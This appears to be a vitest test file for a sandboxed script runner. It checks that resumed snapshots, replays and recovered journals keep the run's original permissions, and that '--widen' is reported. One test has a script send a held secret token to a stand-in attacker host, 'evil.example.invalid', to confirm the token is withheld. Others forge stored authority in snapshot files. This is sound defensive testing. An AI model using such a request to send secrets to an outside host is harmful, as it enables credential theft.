// The authority of a run that continues: by `resume`, `snapshot` and `replay -o`, and the report of `--widen`. Commands are called as the command
// line calls them, in this process.

import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { continuedJournal, fileJournal, readJournal } from '@bridle/stdlib-tools/node'
import { readDocument, writeDocument } from '@bridle/vm'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { begin } from '../begin.js'

const folder = realpathSync(mkdtempSync(join(tmpdir(), 'bridle-resuming-')))
const inside = join(folder, 'inside')
const secret = join(folder, 'secret.txt')
const makeSnapshotPath = (name: string): string => join(folder, `${name}.snap`)

beforeAll(() => {
  mkdirSync(inside)
  mkdirSync(join(inside, 'deep'))
  writeFileSync(secret, 'the secret')
  writeFileSync(join(inside, 'a.txt'), 'in a')
  writeFileSync(join(inside, 'deep', 'b.txt'), 'in b')
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

interface Said {
  readonly code: number
  readonly out: string
  readonly err: string
}

async function runBridle(...words: readonly string[]): Promise<Said> {
  let [out, err] = ['', '']
  const stdout = vi.spyOn(process.stdout, 'write').mockImplementation((chunk) => ((out += String(chunk)), true))
  const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk) => ((err += String(chunk)), true))
  const before = process.exitCode
  try {
    await begin(words)
    return { code: Number(process.exitCode), out, err }
  } finally {
    process.exitCode = before
    stdout.mockRestore()
    stderr.mockRestore()
  }
}

const makeReadingScript = (...paths: readonly string[]): string =>
  `sleep(1ms)\n${paths.map((path) => `println(try { read_file("${path}") } catch (e) { "refused" })`).join('\n')}\n`

/** A snapshot of a run that was started with `flags` and waits before its reads. */
async function takeSnapshot(name: string, flags: readonly string[], code: string): Promise<string> {
  expect(await runBridle('snapshot', ...flags, '-o', makeSnapshotPath(name), '-e', code)).toMatchObject({ code: 0, out: '' })
  return makeSnapshotPath(name)
}

const everything = [secret, join(inside, 'a.txt'), join(inside, 'deep', 'b.txt')]

describe('a snapshot carries the authority of the run', () => {
  test.each<[string, readonly string[], readonly string[], string]>([
    ['no flag, then or now', [], [], 'the secret\nin a\nin b\n'],
    ['a sandbox stays one', ['--sandbox'], [], 'refused\nrefused\nrefused\n'],
    ['a root stays one', ['--root', inside], [], 'refused\nin a\nin b\n'],
    ['a grant stays the only one', ['--grant', 'http'], [], 'refused\nrefused\nrefused\n'],
    ['a denied builtin stays denied', ['--deny', 'read_file'], [], 'refused\nrefused\nrefused\n'],
    ['allowed builtins stay the only ones', ['--allow', 'sleep'], [], 'refused\nrefused\nrefused\n'],
    ['a path of a grant stays', ['--grant', `fs:path=${inside}/deep`], [], 'refused\nrefused\nin b\n'],
    ['flags of now narrow', [], ['--root', inside], 'refused\nin a\nin b\n'],
    ['both narrow', ['--root', inside], ['--root', join(inside, 'deep')], 'refused\nrefused\nin b\n'],
    ['in whichever order', ['--root', join(inside, 'deep')], ['--root', inside], 'refused\nrefused\nin b\n'],
    ['a wider root gives nothing', ['--root', join(inside, 'deep')], ['--root', '/'], 'refused\nrefused\nin b\n'],
    ['roots apart leave nothing', ['--root', join(inside, 'deep')], ['--root', '/usr'], 'refused\nrefused\nrefused\n'],
    ['a grant of now gives nothing back', ['--sandbox'], ['--grant', 'fs'], 'refused\nrefused\nrefused\n'],
    ['unless it is widened', ['--sandbox'], ['--widen'], 'the secret\nin a\nin b\n'],
    ['to what the flags say', ['--sandbox'], ['--widen', '--root', inside], 'refused\nin a\nin b\n'],
  ])('%s', async (name, then, now, expected) => {
    const file = await takeSnapshot(name.replaceAll(/\W/g, '_'), then, makeReadingScript(...everything))
    expect(await runBridle('resume', ...now, file)).toMatchObject({ code: 0, out: expected })
  })

  test('also through a snapshot of a snapshot', async () => {
    const first = await takeSnapshot('first', ['--root', inside], makeReadingScript(...everything))
    const second = makeSnapshotPath('second')
    expect(await runBridle('snapshot', '--at', '1', '--root', join(inside, 'deep'), '-o', second, first)).toMatchObject({
      code: 0,
    })
    expect(await runBridle('resume', second)).toMatchObject({ out: 'refused\nrefused\nin b\n' })
    expect(await runBridle('resume', first)).toMatchObject({ out: 'refused\nin a\nin b\n' })
  })

  test.each<[string, readonly string[], readonly string[], number]>([
    ['its own', ['--fuel', '2000'], [], 1],
    ['no more of now', ['--fuel', '2000'], ['--fuel', '10000000'], 1],
    ['less of now', ['--fuel', '10000000'], ['--fuel', '2000'], 1],
    ['more when it is widened', ['--fuel', '2000'], ['--widen'], 0],
  ])('a run has %s of its limits', async (name, then, now, code) => {
    const long = 'sleep(1ms)\nvar n = 0\nfor i in 1 to 20000 { n = n + i }\n'
    const file = await takeSnapshot(`limits_${name.replaceAll(/\W/g, '_')}`, then, long)
    const ended = await runBridle('resume', ...now, file)
    expect(ended.code).toBe(code)
    expect(ended.err).toContain(code === 0 ? 'limit of fuel: 1000000000000, before 2000' : 'out of fuel')
  })

  test.each<[string, readonly string[], readonly string[], string]>([
    ['a variable that is named now', ['--root', inside], ['--root', inside, '--env', 'HELD_TOKEN'], 'nil'],
    ['a variable that was named and is not', ['--root', inside, '--env', 'HELD_TOKEN'], ['--root', inside], 'nil'],
    [
      'a variable that was named and is',
      ['--root', inside, '--env', 'HELD_TOKEN'],
      ['--root', inside, '--env', 'HELD_TOKEN'],
      'held-4711',
    ],
    ['a variable that was named, without a root now', ['--root', inside, '--env', 'HELD_TOKEN'], [], 'held-4711'],
    ['a variable without a root now', ['--root', inside], [], 'nil'],
    ['a secret that is none now', ['--secret', 'HELD_TOKEN'], [], 'nil'],
    ['a secret that is named as a variable', ['--secret', 'HELD_TOKEN'], ['--root', inside, '--env', 'HELD_TOKEN'], 'nil'],
    ['a secret of now', [], ['--secret', 'HELD_TOKEN'], 'nil'],
    ['a variable that is widened', ['--root', inside], ['--widen', '--root', inside, '--env', 'HELD_TOKEN'], 'held-4711'],
  ])('%s', async (name, then, now, expected) => {
    vi.stubEnv('HELD_TOKEN', 'held-4711')
    try {
      const file = await takeSnapshot(`variable_${name.replaceAll(/\W/g, '_')}`, then, 'sleep(1ms)\nprintln(env("HELD_TOKEN"))\n')
      expect(await runBridle('resume', ...now, file)).toMatchObject({ code: 0, out: `${expected}\n` })
    } finally {
      vi.unstubAllEnvs()
    }
  })

  test('a secret is lent to the same origin only', async () => {
    vi.stubEnv('HELD_TOKEN', 'held-4711')
    const asking = (origin: string): string =>
      `sleep(1ms)\nprintln(try { http_get("${origin}/", {auth: {secret: "HELD_TOKEN"}}) } catch (e) { to_string(e) })\n`
    const origin = 'https://api.example.invalid'
    const lent = ['--root', inside, '--secret', `HELD_TOKEN@${origin}`]
    try {
      const before = await takeSnapshot('lent_before', ['--root', inside], asking(origin))
      expect((await runBridle('resume', ...lent, before)).out).toContain('HELD_TOKEN')
      expect((await runBridle('resume', ...lent, before)).out).not.toContain('dns error')
      const same = await takeSnapshot('lent_same', lent, asking(origin))
      expect((await runBridle('resume', ...lent, same)).out).not.toContain('HELD_TOKEN')
      const other = 'https://evil.example.invalid'
      const wider = await takeSnapshot('lent_wider', lent, asking(other))
      const now = ['--root', inside, '--secret', `HELD_TOKEN@${other}`]
      expect((await runBridle('resume', ...now, wider)).out).toContain('HELD_TOKEN')
      expect((await runBridle('resume', '--widen', ...now, wider)).err).toContain(`secrets: HELD_TOKEN@${other}`)
    } finally {
      vi.unstubAllEnvs()
    }
  })

  test('widening is reported', async () => {
    const file = await takeSnapshot('told', ['--root', inside, '--deny', 'exec'], 'sleep(1ms)\n')
    const { err } = await runBridle('resume', '--widen', file)
    expect(err).toContain('bridle: widened:\n  powers: mcp.connect, process.exec')
    expect(err).toContain('builtins no longer denied: exec')
    expect(err).toContain(`files: anywhere, before: ${inside}`)
    expect((await runBridle('resume', '--widen', '--root', inside, '--deny', 'exec', file)).err).toContain(
      'gives the run nothing',
    )
  })

  test('a root stays the same when a link to it is changed', async () => {
    const link = join(folder, 'link')
    symlinkSync(inside, link)
    const file = await takeSnapshot('link', ['--root', link], makeReadingScript(...everything, join(link, 'a.txt')))
    rmSync(link)
    symlinkSync('/', link)
    expect(await runBridle('resume', file)).toMatchObject({ out: 'refused\nin a\nin b\nrefused\n' })
  })

  test('locked tools stay locked', async () => {
    const lock = join(folder, 'tools.lock.json')
    writeFileSync(lock, '{"format": 3, "tools": {}}')
    const code =
      'import { tool_call } from "std/tools"\n' +
      'tool_bind(tool_define(tool_registry(), "one", "d", {parameters: {}, handler: { a -> "called" }}))\nsleep(1ms)\n' +
      'println(try { tool_call("one", {}) } catch (e) { "refused" })\n'
    const file = await takeSnapshot('locked', ['--locked', '--lock-file', lock], code)
    const open = await takeSnapshot('open', [], code)
    const [held, free] = [await runBridle('resume', file), await runBridle('resume', open)]
    expect([free.out, held.out]).toEqual(['called\n', 'refused\n'])
  })
})

describe('authority stored in a file only takes away', () => {
  type Document = unknown[]
  const AUTHORITY = 11
  const rewriteDocument = (file: string, change: (document: Document) => Document, version = 3): string => {
    const document = readDocument(readFileSync(file), 3) as Document
    const out = `${file}.changed`
    writeFileSync(out, writeDocument(change(document), version))
    return out
  }

  test('a claim to everything is limited by the flags', async () => {
    const file = await takeSnapshot('claims', ['--sandbox'], makeReadingScript(...everything))
    const claims = rewriteDocument(file, (document) => document.with(AUTHORITY, [[['*']], [], [], null, false, null]))
    expect(await runBridle('resume', '--root', inside, claims)).toMatchObject({ out: 'refused\nin a\nin b\n' })
    expect(await runBridle('resume', '--sandbox', claims)).toMatchObject({ out: 'refused\nrefused\nrefused\n' })
  })

  test.each<[string, unknown]>([
    ['none of its lists', []],
    ['text for a list', ['*', [], [], null, false, null]],
    ['a scope that is none', [[['*']], ['x'], [], null, false, null]],
    ['a constraint that is none', [[['*']], [{ grants: { fs: { path: { deep: 1 } } } }], [], null, false, null]],
    ['a constraint of another kind', [[['*']], [{ grants: { fs: { max_calls: 'many' } } }], [], null, false, null]],
    ['builtins that are none', [[['*']], [], [{}], null, false, null]],
    ['text', 'everything'],
  ])('%s is refused', async (name, authority) => {
    const file = await takeSnapshot(`bad_${name.replaceAll(/\W/g, '_')}`, [], makeReadingScript(secret))
    const changed = rewriteDocument(file, (document) => document.with(AUTHORITY, authority))
    const ended = await runBridle('resume', changed)
    expect(ended).toMatchObject({ code: 1, out: '' })
    expect(ended.err).toContain('refused (damaged)')
  })

  test.each<[string, unknown]>([
    ['text', 'nothing'],
    ['a list', []],
    ['without its parts', {}],
    ['roots that are no paths', { roots: [1, 'relative'], privateHosts: 3, mcpHosts: 'x', mcpPrograms: 'yes' }],
  ])('a confinement that cannot be read confines most: %s', async (name, confinement) => {
    const file = await takeSnapshot(`confined_${name.replaceAll(/\W/g, '_')}`, [], makeReadingScript(...everything))
    const changed = rewriteDocument(file, (document) => document.with(AUTHORITY, [[['*']], [], [], null, false, confinement]))
    expect(await runBridle('resume', changed)).toMatchObject({ out: 'refused\nrefused\nrefused\n' })
  })

  test('one of a version without stored authority needs flags', async () => {
    const file = await takeSnapshot('old', [], makeReadingScript(...everything))
    const old = rewriteDocument(file, (document) => document.slice(0, AUTHORITY), 2)
    expect(await runBridle('resume', old)).toEqual({
      code: 2,
      out: '',
      err: expect.stringMatching(/version that did not write down what the run may do[^]*--widen/) as string,
    })
    expect(await runBridle('resume', '--root', inside, old)).toMatchObject({ code: 0, out: 'refused\nin a\nin b\n' })
    expect(await runBridle('resume', '--widen', old)).toMatchObject({ code: 0, out: 'the secret\nin a\nin b\n' })
  })
})

describe('a recording carries the authority', () => {
  const code = makeReadingScript(...everything)
  const recordRun = async (name: string, flags: readonly string[]): Promise<string> => {
    const journal = join(folder, `${name}.jsonl`)
    expect(await runBridle('run', ...flags, '--record', journal, '-e', code)).toMatchObject({ code: 0 })
    return journal
  }

  test('a replay repeats refusals', async () => {
    const journal = await recordRun('again', ['--sandbox', '--deny', 'read_file'])
    expect(await runBridle('replay', journal)).toMatchObject({ code: 0, err: '' })
  })

  test('a run that continues from a replay has the authority of the recorded one', async () => {
    const journal = await recordRun('on', ['--root', inside])
    const out = makeSnapshotPath('replayed')
    expect(await runBridle('replay', journal, '--until', '0', '-o', out)).toMatchObject({ code: 0 })
    expect((await runBridle('resume', out)).out).toContain('refused\nin a\nin b\n')
    expect(await runBridle('replay', journal, '--sandbox', '--until', '0', '-o', out)).toMatchObject({ code: 0 })
    expect((await runBridle('resume', out)).out).toContain('refused\nrefused\nrefused\n')
    expect(await runBridle('replay', journal, '--widen', '--until', '0', '-o', out)).toMatchObject({ code: 0 })
    expect((await runBridle('resume', out)).out).toContain('the secret\nin a\nin b\n')
  })

  test('one of a version without stored authority needs flags to continue, but not to be replayed', async () => {
    const journal = await recordRun('silent', [])
    const [first, ...rest] = readFileSync(journal, 'utf8').split('\n')
    const head = JSON.parse(first!) as Record<string, unknown>
    delete head['authority']
    writeFileSync(journal, [JSON.stringify(head), ...rest].join('\n'))
    expect(await runBridle('replay', journal)).toMatchObject({ code: 0 })
    expect(await runBridle('replay', journal, '--until', '0', '-o', makeSnapshotPath('silent'))).toMatchObject({ code: 2 })
    expect(await runBridle('replay', journal, '--root', inside, '--until', '0', '-o', makeSnapshotPath('silent'))).toMatchObject({
      code: 0,
    })
    expect((await runBridle('resume', makeSnapshotPath('silent'))).out).toContain('refused\nin a\nin b\n')
  })

  test('--edit takes one value, and FILE may follow', async () => {
    const script = join(folder, 'edited.harn')
    writeFileSync(script, 'println(read_file("a.txt"))\n')
    const writeJournal = join(folder, 'edited.jsonl')
    expect(await runBridle('run', '--root', inside, '--record', writeJournal, script)).toMatchObject({ out: 'in a\n' })
    expect(await runBridle('replay', writeJournal, '--edit', '1={"data": "edited"}', script)).toMatchObject({
      code: 0,
      out: 'edited\n',
    })
    expect(await runBridle('replay', '--edit', '1={"data": "edited"}', writeJournal, script)).toMatchObject({
      code: 0,
      out: 'edited\n',
    })
  })
})

describe('a run whose process ended is recovered from its journal', () => {
  const data = join(inside, 'a.txt')
  const written = join(folder, 'written.txt')
  const code = `println("one")
println(read_file("${data}"))
sleep(1ms)
append_file("${written}", "w")
println(random_int(1, 1000000))
println(argv)
`
  interface Ended {
    readonly status: string
    readonly output: string
  }
  const recordRun = async (name: string, ...flags: readonly string[]): Promise<readonly string[]> => {
    rmSync(written, { force: true })
    const journal = join(folder, `${name}.jsonl`)
    expect(await runBridle('run', ...flags, '--record', journal, '-e', code, '--', 'word')).toMatchObject({ code: 0 })
    return readFileSync(journal, 'utf8').trimEnd().split('\n')
  }
  const cut = (name: string, text: string): string => {
    const path = join(folder, `${name}.cut.jsonl`)
    writeFileSync(path, text)
    return path
  }

  test('cut off anywhere, also in the middle of a line', async () => {
    const lines = await recordRun('cuts')
    for (let at = 2; at < lines.length - 1; at++) {
      const whole = `${lines.slice(0, at).join('\n')}\n`
      for (const rest of ['', lines[at]!.slice(0, 20), lines[at]!.slice(0, -1)]) {
        const writeJournal = cut('cuts', whole + rest)
        const { out } = await runBridle('resume', '--unknown', 'retry', '--json', writeJournal)
        const ended = JSON.parse(out) as Ended
        expect(ended).toMatchObject({ status: 'done', output: expect.stringMatching(/^one\nin a\n\d+\n\[word\]\n$/) as string })
        // The journal is complete again: it replays, and nothing remains to continue.
        expect(await runBridle('replay', writeJournal)).toMatchObject({ code: 0, out: ended.output, err: '' })
        expect(await runBridle('resume', writeJournal)).toMatchObject({
          code: 1,
          err: expect.stringContaining('has ended') as string,
        })
      }
    }
  })

  test('output is not repeated, and an effect that may have happened is not repeated', async () => {
    const lines = await recordRun('unknown')
    const intent = lines.findIndex((line) => line.includes('"fs.write"'))
    const writeJournal = (): string => cut('unknown', `${lines.slice(0, intent + 1).join('\n')}\n`)
    rmSync(written)
    const failed = await runBridle('resume', writeJournal())
    expect(failed).toMatchObject({ code: 1, out: '' })
    expect(failed.err).toContain('the outcome of fs.write')
    expect(await runBridle('resume', '--unknown', 'retry', writeJournal())).toMatchObject({
      code: 0,
      out: expect.stringMatching(/^\d+\n\[word\]\n$/) as string,
    })
    expect(readFileSync(written, 'utf8')).toBe('w')
  })

  test('under both the stored authority and the current flags, each time', async () => {
    const lines = await recordRun('held', '--root', folder)
    const begun = `${lines.slice(0, 2).join('\n')}\n`
    const held = cut('held', begun)
    // Narrowed once, it stays narrowed: the process that continued is cut off, too.
    expect(await runBridle('resume', '--deny', 'append_file', held)).toMatchObject({
      code: 1,
      err: expect.stringContaining('not permitted') as string,
    })
    const again = readFileSync(held, 'utf8').trimEnd().split('\n')
    const restore = again.findIndex((line) => line.includes('"restore"'))
    const twice = cut('twice', `${again.slice(0, restore + 2).join('\n')}\n`)
    expect(await runBridle('resume', twice)).toMatchObject({ code: 1, err: expect.stringContaining('not permitted') as string })
    expect(await runBridle('replay', twice)).toMatchObject({ code: 1, err: expect.stringContaining('not permitted') as string })
    const outside = cut('outside', begun)
    expect(await runBridle('resume', '--root', join(inside, 'deep'), outside)).toMatchObject({
      code: 1,
      err: expect.stringContaining('outside the allowed roots') as string,
    })
  })

  test('a dry run continues as a dry run', async () => {
    const lines = await recordRun('dry', '--dry-run')
    const begun = cut('dry', `${lines.slice(0, 2).join('\n')}\n`)
    rmSync(written, { force: true })
    expect(await runBridle('resume', begun)).toMatchObject({
      code: 0,
      out: expect.stringContaining('this would have happened') as string,
    })
    const out = makeSnapshotPath('dry')
    expect(await runBridle('replay', cut('dry', lines.join('\n')), '--until', '1', '-o', out)).toMatchObject({ code: 0 })
    await runBridle('resume', out)
    expect(existsSync(written)).toBe(false)
  })

  test('two processes never continue it at once', () => {
    const path = join(folder, 'shared.jsonl')
    const first = fileJournal(path)
    first.append({ type: 'cancel', reason: 'first', now: 0 })
    const second = continuedJournal(path)
    second.append({ type: 'restore', now: 1 })
    expect(() => first.append({ type: 'cancel', reason: 'late', now: 2 })).toThrow('another process writes to the journal')
    second.append({ type: 'cancel', reason: 'second', now: 2 })
    first.close?.()
    second.close?.()
    expect(readJournal(path).map(({ type }) => type)).toEqual(['cancel', 'restore', 'cancel'])
  })
})
